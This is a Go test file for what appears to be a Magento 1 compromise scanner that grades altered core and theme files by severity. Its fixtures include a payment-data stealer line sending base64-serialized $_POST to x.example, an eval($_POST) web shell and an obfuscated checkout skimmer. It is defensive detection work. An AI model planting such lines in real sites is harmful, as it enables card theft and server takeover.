package m1audit

import (
	"context"
	"path/filepath"
	"strings"
	"testing"

	"github.com/mageflow/mageflow/internal/m1/m1core"
)

func TestCoreFindingsShowStealerLines(t *testing.T) {
	res := &m1core.Result{Status: m1core.StatusModified, Version: "1.9.4.5",
		Modified: []m1core.Change{
			{Path: "app/code/core/Mage/Payment/Model/Method/Cc.php", Code: true, Lines: true, ForeignLines: 1,
				Foreign: []m1core.Line{{N: 412, Text: "@file_get_contents('https://x.example/?c='.base64_encode(serialize($_POST)));"}}},
			{Path: "skin/frontend/base/default/css/styles.css", Lines: false, Size: 10},
		},
		Added: []m1core.Change{{Path: "errors/x.php", Code: true, Lines: true, ForeignLines: 1, Foreign: []m1core.Line{{N: 1, Text: "<?php eval($_POST[1]);"}}},
			{Path: "app/code/core/Mage/Core/Model/UrlCopy.php", Code: true, Lines: true}},
		Missing: []string{"js/varien/js.js"}}
	fs, high := coreFindings(res)
	if !exfiltrates(res) {
		t.Error("a stealer line in a core payment model is not a sign of compromise")
	}
	hack := &m1core.Result{Modified: []m1core.Change{{Path: "app/code/core/Mage/Sales/Model/Order.php", Code: true, Lines: true,
		ForeignLines: 1, Foreign: []m1core.Line{{N: 10, Text: "Mage::log('order ' . $this->getId());"}}}}}
	if exfiltrates(hack) {
		t.Error("a developer's logging line counts as compromise")
	}
	if !high || len(fs) != 5 {
		t.Fatalf("high %v, %d findings: %+v", high, len(fs), fs)
	}
	if f := fs[0]; f.Severity != SeverityHigh || f.Line != 412 || !strings.Contains(f.Evidence, "base64_encode(serialize($_POST))") {
		t.Errorf("stealer finding %+v", f)
	}
	// css: medium; added PHP with a foreign line: high; a copy whose every
	// line is in a release (a backup, an older patch): medium; missing: low.
	for i, want := range []Severity{SeverityHigh, SeverityMedium, SeverityHigh, SeverityMedium, SeverityLow} {
		if fs[i].Severity != want {
			t.Errorf("%s: severity %s, want %s", fs[i].Path, fs[i].Severity, want)
		}
	}
}

// TestCoreThemeEdits: a stock template changed in place is for a person to
// review; the same file with a skimmer line is high.
func TestCoreThemeEdits(t *testing.T) {
	tpl := "app/design/frontend/rwd/default/template/checkout/onepage/payment.phtml"
	edit := m1core.Change{Path: tpl, Code: true, Lines: true, ForeignLines: 1, Foreign: []m1core.Line{{N: 3, Text: `<div class="my-shop-note"><?php echo $this->__('Secure payment') ?></div>`}}}
	skim := m1core.Change{Path: tpl, Code: true, Lines: true, ForeignLines: 1, Foreign: []m1core.Line{{N: 3, Text: `<script>var s=document.createElement('script');s.src=atob('Ly94LmV4YW1wbGUvai5qcw==');</script>`}}}
	if f := coreFinding(edit, "modified"); f.Severity != SeverityMedium {
		t.Errorf("theme edit: %s", f.Severity)
	}
	if f := coreFinding(skim, "modified"); f.Severity != SeverityHigh || !strings.Contains(f.Evidence, "atob(") {
		t.Errorf("theme skimmer: %+v", f)
	}
}

func TestCoreIntegrityUnknownReleaseFallsBack(t *testing.T) {
	root := t.TempDir()
	writeFile(t, filepath.Join(root, "app", "Mage.php"), "<?php // not a release\n")
	writeFile(t, filepath.Join(root, "index.php"), "<?php\n")
	r := coreIntegrityCheck(context.Background(), &Target{WebRoot: root})
	if r.Status != StatusNeedsPerson || !strings.Contains(r.Evidence.Detail, "not identified") || r.Fix != coreFixUnknown {
		t.Fatalf("unknown release: %+v", r)
	}
}
